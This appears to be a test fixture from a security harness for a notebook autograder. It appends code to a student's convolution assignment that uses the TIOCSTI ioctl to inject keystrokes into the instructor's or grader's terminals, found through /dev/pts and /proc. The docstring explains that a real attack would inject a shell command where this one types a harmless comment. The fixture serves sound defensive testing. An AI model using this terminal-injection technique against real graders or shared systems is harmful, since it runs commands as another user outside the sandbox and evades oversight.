"""Type into the instructor's terminal with TIOCSTI: a comment line, as if the instructor had typed it.

All eight functions are honest. The zero_pad cell tries the ``TIOCSTI`` ioctl, which pushes
characters into a terminal's input as if typed, on every file descriptor it holds (0 to
255), on ``/dev/tty`` (its controlling terminal), on every terminal under /dev/pts and on
those the grader holds open (through /proc/<pid>/fd of the processes working in the course
folder). It types ``# cnnattack_tiocsti`` and a newline: a comment, harmless in a shell,
where a real attacker would type a command (which the instructor's shell then runs, as the
instructor, outside every sandbox, once grading ends). It prints how many ioctls worked,
and stops at the first terminal that took the text. Bounded: only that comment, and at most
one terminal.
Without protection: a kernel that shares the grader's terminal (nbgrader's kernels inherit
it) puts the line into the instructor's shell.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
MUST_EARN = EXPECT
APPEND = {"zero_pad": '''
import fcntl as _fcntl
import glob as _glob
import os as _os
import termios as _termios

_TEXT = b"# cnnattack_tiocsti\\n"


def _cnnattack_type_into(fd):
    if not _os.isatty(fd):
        return False
    try:
        for _byte in _TEXT:
            _fcntl.ioctl(fd, _termios.TIOCSTI, bytes([_byte]))
        return True
    except OSError:
        return False


def _cnnattack_terminals():
    yield from range(256)
    for path in ["/dev/tty", *sorted(_glob.glob("/dev/pts/[0-9]*"))]:
        yield path
    course = _os.path.realpath("../../..")
    for pid in [p for p in _os.listdir("/proc") if p.isdigit()] if _os.path.isdir("/proc/self") else []:
        try:
            cwd = _os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if cwd == course or cwd.startswith(course + "/"):
            yield from (f"/proc/{pid}/fd/{fd}" for fd in ("0", "1", "2"))


_typed = []
for _target in _cnnattack_terminals():
    _opened = None
    try:
        if isinstance(_target, str):
            _opened = _os.open(_target, _os.O_RDWR | _os.O_NOCTTY | _os.O_NONBLOCK)
        if _cnnattack_type_into(_target if _opened is None else _opened):
            _typed.append(str(_target))
    except OSError:
        pass
    finally:
        if _opened is not None:
            _os.close(_opened)
    if _typed:
        break
print("tiocsti: typed into", _typed or "nothing")
'''}
